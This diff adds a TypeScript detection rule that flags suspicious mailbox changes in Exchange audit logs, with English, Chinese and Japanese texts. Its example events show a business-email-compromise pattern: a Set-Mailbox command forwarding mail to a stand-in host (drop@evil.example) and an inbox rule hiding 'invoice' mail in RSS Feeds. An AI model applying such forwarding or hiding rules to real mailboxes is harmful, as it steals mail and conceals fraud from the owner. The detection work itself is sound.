@@ -1,0 +1,371 @@
+import type { DetectionLevel } from '../../model/detection.ts'
+import { dayOf, readDetail } from '../accounts.ts'
+import { ipEntity, proofOf } from '../drafts.ts'
+import { exampleEvent } from '../example.ts'
+import { domainOf, mailboxAt, OddSignIns, ownDomains } from '../mailboxes.ts'
+import type { OddSignIn } from '../odd-sign-ins.ts'
+import type { EntityHandle, Find, Rule } from '../rule.ts'
+import type { CorrelationView, ViewEvent } from '../view.ts'
+
+/** The provider recorded the change. */
+const RECORDED = 0.95
+/** A forward that was set: mail goes there from then on, if the provider lets it. */
+const FORWARDS = 0.9
+/** The change alone; after an odd sign-in it is surer. */
+const ALONE = 0.7
+const AFTER_ODD = 0.92
+
+/** Where rules put mail that the owner shall not see. */
+const HIDDEN_FOLDER =
+  /\b(?:rss[ -]?(?:feeds|subscriptions)?|conversation history|archive|junk[ -]?e?-?mail|notes|deleted items|sync issues|drafts)\b|垃圾郵件|刪除的郵件|削除済み|迷惑メール/i
+/** What rules of fraud look for. */
+const FRAUD_WORDS =
+  /\b(?:invoice|payment|wire|bank|iban|remittance|payroll|transfer|swift|phish\w*|hack\w*|fraud|scam|spam|suspicious|password|mfa|verification|helpdesk|security alert|docusign)\b|發票|付款|匯款|銀行|請求書|振込|送金|支払/i
+/** Names nobody gives a rule to find it again. */
+const ODD_NAME = /^[\s.,;:_\-*'"!?a-z0-9]{0,2}$|^(.)\1*$/i
+const FORWARD_NAMES =
+  /-(?:ForwardTo|ForwardAsAttachmentTo|RedirectTo|RedirectMessageTo|ForwardingSmtpAddress|ForwardingAddress|BlindCopyTo|CopyTo)\s+"?(?:smtp:)?([A-Za-z0-9._%+'-]{1,64}@[A-Za-z0-9.-]{1,253})/gi
+
+/** A change of a mailbox in an example. */
+function change(
+  seconds: number,
+  kind: 'mailbox-rule' | 'mailbox-change',
+  action: string,
+  more: Parameters<typeof exampleEvent>[2],
+) {
+  return exampleEvent(kind, seconds, {
+    host: undefined,
+    account: 'amber@corp.example',
+    sourceIp: '198.51.100.9',
+    outcome: 'success',
+    action,
+    ...more,
+  })
+}
+function signIn(seconds: number, location: string, sourceIp: string) {
+  return exampleEvent('cloud-sign-in', seconds, {
+    host: undefined,
+    account: 'amber@corp.example',
+    sourceIp,
+    location,
+    outcome: 'success',
+  })
+}
+
+const rule: Rule = {
+  id: 'mailbox.change',
+  order: 56,
+  relations: ['changed-mailbox', 'forwards-to', 'owned-by'],
+  detections: ['forward-outside', 'hiding-rule', 'access-granted', 'audit-off'],
+  attack: ['T1114.003', 'T1564.008', 'T1098.002', 'T1562.008'],
+  texts: {
+    en: {
+      title: 'Changed mailboxes: rules, forwarding, permissions',
+      description:
+        'Who changed a mailbox and from where, and where its mail is forwarded to. Forwarding out of the organisation, rules that hide mail, granted access and switched-off auditing are told, rated higher after an odd sign-in of the account or from the same address.',
+      needs: 'The unified audit log or the management log of Exchange (New-InboxRule, Set-Mailbox, ...).',
+      falsePositives:
+        'People forward mail to their private address or sort newsletters away; administrators grant access to shared mailboxes.',
+      'detection.forward-outside': 'Mail forwarded out of the organisation',
+      'detection.hiding-rule': 'Inbox rule that hides mail',
+      'detection.access-granted': 'Access to a mailbox granted',
+      'detection.audit-off': 'Auditing of mailboxes switched off',
+      'reason.changed': '{action} by {actor}.',
+      'reason.changed_from': '{action} by {actor} from {ip}.',
+      'reason.forwards': '{action} by {actor} sends mail of this mailbox there.',
+      'reason.owner': 'The audit log names the owner of the mailbox.',
+      'reason.outside': '{actor} ({action}) sends mail to {target}, outside of the organisation.',
+      'reason.outside_odd':
+        '{actor} ({action}) sends mail to {target}, outside of the organisation, {hours} h after an odd sign-in ({country}).',
+      'reason.hides': 'The rule {rule} of {actor} hides mail: {how}.',
+      'reason.hides_odd':
+        'The rule {rule} of {actor} hides mail: {how}; made {hours} h after an odd sign-in ({country}).',
+      'reason.granted': '{actor} granted access ({action}): {how}.',
+      'reason.granted_odd':
+        '{actor} granted access ({action}): {how}; {hours} h after an odd sign-in ({country}).',
+      'reason.audit': '{actor} switched off what is recorded of mailboxes ({action}).',
+    },
+    'zh-TW': {
+      title: '信箱變更：規則、轉寄、權限',
+      description:
+        '誰從何處變更了信箱，以及郵件轉寄至何處。提示轉寄至組織外部、隱藏郵件的規則、授予的存取權與關閉的稽核；若發生在該帳號或同一位址的異常登入之後，等級較高。',
+      needs: '整合稽核記錄或 Exchange 管理記錄（New-InboxRule、Set-Mailbox 等）。',
+      falsePositives: '使用者將郵件轉寄到私人信箱或整理電子報；系統管理員授予共用信箱的存取權。',
+      'detection.forward-outside': '郵件轉寄至組織外部',
+      'detection.hiding-rule': '隱藏郵件的收件匣規則',
+      'detection.access-granted': '授予信箱存取權',
+      'detection.audit-off': '關閉信箱稽核',
+      'reason.changed': '{actor} 執行了 {action}。',
+      'reason.changed_from': '{actor} 自 {ip} 執行了 {action}。',
+      'reason.forwards': '{actor} 執行 {action}，使此信箱的郵件轉寄至該處。',
+      'reason.owner': '稽核記錄載明信箱的擁有者。',
+      'reason.outside': '{actor}（{action}）將郵件轉寄至組織外部的 {target}。',
+      'reason.outside_odd':
+        '{actor}（{action}）在異常登入（{country}）{hours} 小時後，將郵件轉寄至組織外部的 {target}。',
+      'reason.hides': '{actor} 的規則 {rule} 會隱藏郵件：{how}。',
+      'reason.hides_odd':
+        '{actor} 的規則 {rule} 會隱藏郵件：{how}；建立於異常登入（{country}）{hours} 小時後。',
+      'reason.granted': '{actor} 授予了存取權（{action}）：{how}。',
+      'reason.granted_odd':
+        '{actor} 授予了存取權（{action}）：{how}；發生於異常登入（{country}）{hours} 小時後。',
+      'reason.audit': '{actor} 關閉了信箱的稽核紀錄（{action}）。',
+    },
+    ja: {
+      title: 'メールボックスの変更: ルール・転送・権限',
+      description:
+        '誰がどこからメールボックスを変更し、メールがどこへ転送されるか。組織外への転送、メールを隠すルール、付与されたアクセス権、無効化された監査を示し、そのアカウントまたは同じアドレスからの不審なサインインの後ならレベルを上げます。',
+      needs: '統合監査ログまたは Exchange の管理ログ（New-InboxRule、Set-Mailbox など）。',
+      falsePositives:
+        '私用アドレスへの転送やニュースレターの仕分け。管理者による共有メールボックスへのアクセス権付与。',
+      'detection.forward-outside': '組織外へのメール転送',
+      'detection.hiding-rule': 'メールを隠す受信トレイルール',
+      'detection.access-granted': 'メールボックスへのアクセス権付与',
+      'detection.audit-off': 'メールボックス監査の無効化',
+      'reason.changed': '{actor} による {action}。',
+      'reason.changed_from': '{ip} からの {actor} による {action}。',
+      'reason.forwards': '{actor} の {action} により、このメールボックスのメールがそこへ送られます。',
+      'reason.owner': '監査ログにメールボックスの所有者が記されています。',
+      'reason.outside': '{actor}（{action}）が組織外の {target} へメールを転送します。',
+      'reason.outside_odd':
+        '{actor}（{action}）が不審なサインイン（{country}）の {hours} 時間後に、組織外の {target} へメールを転送しました。',
+      'reason.hides': '{actor} のルール {rule} がメールを隠します: {how}',
+      'reason.hides_odd':
+        '{actor} のルール {rule} がメールを隠します: {how}（不審なサインイン（{country}）の {hours} 時間後に作成）。',
+      'reason.granted': '{actor} がアクセス権を付与しました（{action}）: {how}',
+      'reason.granted_odd':
+        '{actor} がアクセス権を付与しました（{action}）: {how}（不審なサインイン（{country}）の {hours} 時間後）。',
+      'reason.audit': '{actor} がメールボックスの記録を無効にしました（{action}）。',
+    },
+  },
+  matches: [
+    {
+      title:
+        'a forward out of the organisation and a rule that hides answers, after two countries in ten minutes',
+      items: [
+        signIn(0, 'Taipei, TW', '203.0.113.7'),
+        signIn(600, 'Lagos, NG', '198.51.100.9'),
+        change(1200, 'mailbox-change', 'Set-Mailbox', {
+          targetAccount: 'amber@corp.example',
+          recipient: 'drop@evil.example',
+          detail: 'ForwardingSmtpAddress: smtp:drop@evil.example; DeliverToMailboxAndForward: True',
+        }),
+        change(1300, 'mailbox-rule', 'New-InboxRule', {
+          target: '..',
+          detail: 'SubjectOrBodyContainsWords: invoice; MoveToFolder: RSS Feeds; MarkAsRead: True',
+        }),
+      ],
+      finds: [
+        'changed-mailbox: amber@corp.example -> amber@corp.example',
+        'changed-mailbox: 198.51.100.9 -> amber@corp.example',
+        'forwards-to: amber@corp.example -> drop@evil.example',
+        '!forward-outside: amber@corp.example',
+        '!hiding-rule: amber@corp.example',
+      ],
+    },
+    {
+      title: 'the management log of an Exchange server',
+      items: [
+        exampleEvent('mailbox-change', 0, {
+          account: 'CORP\\adm',
+          action: 'Set-Mailbox',
+          outcome: 'success',
+          detail: '-Identity "basil@corp.example" -ForwardingSmtpAddress "smtp:x@evil.example"',
+        }),
+      ],
+      finds: ['forwards-to: basil@corp.example -> x@evil.example', '!forward-outside: basil@corp.example'],
+    },
+  ],
+  ignores: [
+    {
+      title: 'a refused change and a transport rule of nobody',
+      items: [
+        change(0, 'mailbox-change', 'Set-Mailbox', {
+          targetAccount: 'amber@corp.example',
+          outcome: 'failure',
+          recipient: 'drop@evil.example',
+        }),
+      ],
+      finds: [],
+    },
+  ],
+
+  *run(view): Generator<Find> {
+    let odd: OddSignIns | undefined
+    let domains: ReadonlySet<string> | undefined
+    for (const event of view.events(
+      ['mailbox-rule', 'mailbox-change', 'audit-change'],
+      [
+        'account',
+        'accountMail',
+        'action',
+        'target',
+        'targetAccount',
+        'recipient',
+        'detail',
+        'sourceIp',
+        'outcome',
+        'provider',
+      ],
+    )) {
+      if (event.fields.outcome === 'failure') continue
+      if (event.kind === 'audit-change') {
+        yield* auditOff(event)
+        continue
+      }
+      odd ??= new OddSignIns(view)
+      domains ??= ownDomains(view)
+      yield* changed(view, event, odd, domains)
+    }
+  },
+}
+export default rule
+
+/** Whose mailbox it is: as the record names it, else the one of who made a rule. */
+function mailboxOf({ kind, fields }: ViewEvent): string | undefined {
+  const { targetAccount, account, accountMail, detail = '' } = fields
+  const named = /-(?:Identity|Mailbox)\s+"?([^"\s]{1,256})/i.exec(detail)?.[1]
+  const written = targetAccount ?? named ?? (kind === 'mailbox-rule' ? (accountMail ?? account) : undefined)
+  // `corp.example/Users/Basil` and `Basil\rule` both begin or end with what is a name.
+  return written?.split('\\')[0]?.split('/').at(-1)
+}
+
+function* changed(
+  view: CorrelationView,
+  event: ViewEvent,
+  odd: OddSignIns,
+  domains: ReadonlySet<string>,
+): Generator<Find> {
+  const written = mailboxOf(event)
+  if (written === undefined || written === '') return
+  const { account = '?', action = '?', sourceIp, recipient, detail = '', target = '' } = event.fields
+  const mailbox = mailboxAt(view, written)
+  const base = { at: event.at, proof: proofOf(event) }
+  const params = { action, actor: account }
+  if (event.userId !== null)
+    yield {
+      ...base,
+      kind: 'changed-mailbox',
+      from: event.userId,
+      to: mailbox,
+      confidence: RECORDED,
+      reason: 'changed',
+      params,
+    }
+  if (sourceIp !== undefined)
+    yield {
+      ...base,
+      kind: 'changed-mailbox',
+      from: ipEntity(sourceIp),
+      to: mailbox,
+      confidence: RECORDED,
+      reason: 'changed_from',
+      params: { ...params, ip: sourceIp },
+    }
+  const owner = view.book.find('user', 'upn', written) ?? view.book.find('user', 'smtp', written)
+  if (owner)
+    yield {
+      ...base,
+      kind: 'owned-by',
+      from: mailbox,
+      to: owner.id,
+      at: null,
+      confidence: 0.9,
+      reason: 'owner',
+    }
+  if (/^(?:remove|disable)-/i.test(action)) return
+  const sign = odd.before(event)
+  const involved = [
+    ...(event.userId === null ? [] : [event.userId]),
+    ...(sourceIp === undefined ? [] : [ipEntity(sourceIp)]),
+  ]
+  const find = (
+    detection: string,
+    level: DetectionLevel,
+    reason: string,
+    more: Record<string, string>,
+  ): Find => ({
+    ...base,
+    detection,
+    level,
+    subject: mailbox,
+    involved,
+    window: dayOf(event.at),
+    confidence: sign ? AFTER_ODD : ALONE,
+    reason: sign ? `${reason}_odd` : reason,
+    params: { ...params, ...more, ...oddParams(event, sign) },
+  })
+  const targets = [
+    ...(recipient ?? '').split(', ').filter((one) => one.includes('@')),
+    ...[...detail.matchAll(FORWARD_NAMES)].flatMap((match) => match[1]?.toLowerCase() ?? []),
+  ]
+  const own = domainOf(written)
+  for (const address of new Set(targets)) {
+    const to: EntityHandle = mailboxAt(view, address)
+    if (to === mailbox) continue
+    yield {
+      ...base,
+      kind: 'forwards-to',
+      from: mailbox,
+      to,
+      confidence: FORWARDS,
+      reason: 'forwards',
+      params,
+    }
+    if (domainOf(address) === own || domains.has(domainOf(address))) continue
+    const isGone = /deletemessage:\s*true|delivertomailboxandforward:?\s*"?false/i.test(detail)
+    yield find('forward-outside', sign ? 'critical' : isGone ? 'high' : 'medium', 'outside', {
+      target: address,
+    })
+  }
+  const how = event.kind === 'mailbox-rule' ? hides(detail) : undefined
+  if (how !== undefined) {
+    const isFraud = FRAUD_WORDS.test(detail) || ODD_NAME.test(target.trim())
+    const level: DetectionLevel = sign ? (isFraud ? 'critical' : 'high') : isFraud ? 'high' : 'low'
+    yield find('hiding-rule', level, 'hides', { rule: target, how })
+  }
+  if (event.kind === 'mailbox-change' && /permission|delegation/i.test(action))
+    yield find('access-granted', sign ? 'high' : 'low', 'granted', {
+      how: (readDetail(detail, 'User') ?? detail).slice(0, 200),
+    })
+}
+
+/** How a rule hides mail, in the words of its parameters; undefined for rules that do not. */
+function hides(detail: string): string | undefined {
+  if (/deletemessage[:\s]+"?(?:true|\$true)/i.test(detail)) return 'DeleteMessage'
+  const folder = readDetail(detail, 'MoveToFolder') ?? /-MoveToFolder\s+"([^"]{1,200})/i.exec(detail)?.[1]
+  return folder !== undefined && HIDDEN_FOLDER.test(folder)
+    ? `MoveToFolder ${folder.slice(0, 100)}`
+    : undefined
+}
+
+const oddParams = (event: ViewEvent, sign: OddSignIn | undefined): Record<string, string | number> =>
+  sign === undefined || event.at === null
+    ? {}
+    : {
+        hours: Math.max(0, Math.round((event.at - sign.until) / 3_600e6)),
+        country: sign.country ?? sign.ip ?? '?',
+      }
+
+/** Only where the parameters say that less is written down from then on. */
+function* auditOff(event: ViewEvent): Generator<Find> {
+  const { action = '', detail = '', account = '?' } = event.fields
+  const isOff =
+    (/^Set-MailboxAuditBypassAssociation$/i.test(action) &&
+      /auditbypassenabled:?\s*"?\$?true/i.test(detail)) ||
+    (/^Set-AdminAuditLogConfig$/i.test(action) &&
+      /(?:unifiedauditlogingestionenabled|adminauditlogenabled):?\s*"?\$?false/i.test(detail)) ||
+    (/^Set-OrganizationConfig$/i.test(action) && /auditdisabled:?\s*"?\$?true/i.test(detail))
+  const subject = event.userId ?? event.endpointId
+  if (!isOff || subject === null) return
+  yield {
+    detection: 'audit-off',
+    level: 'high',
+    subject,
+    window: dayOf(event.at),
+    at: event.at,
+    confidence: RECORDED,
+    reason: 'audit',
+    params: { actor: account, action },
+    proof: proofOf(event),
+  }
+}
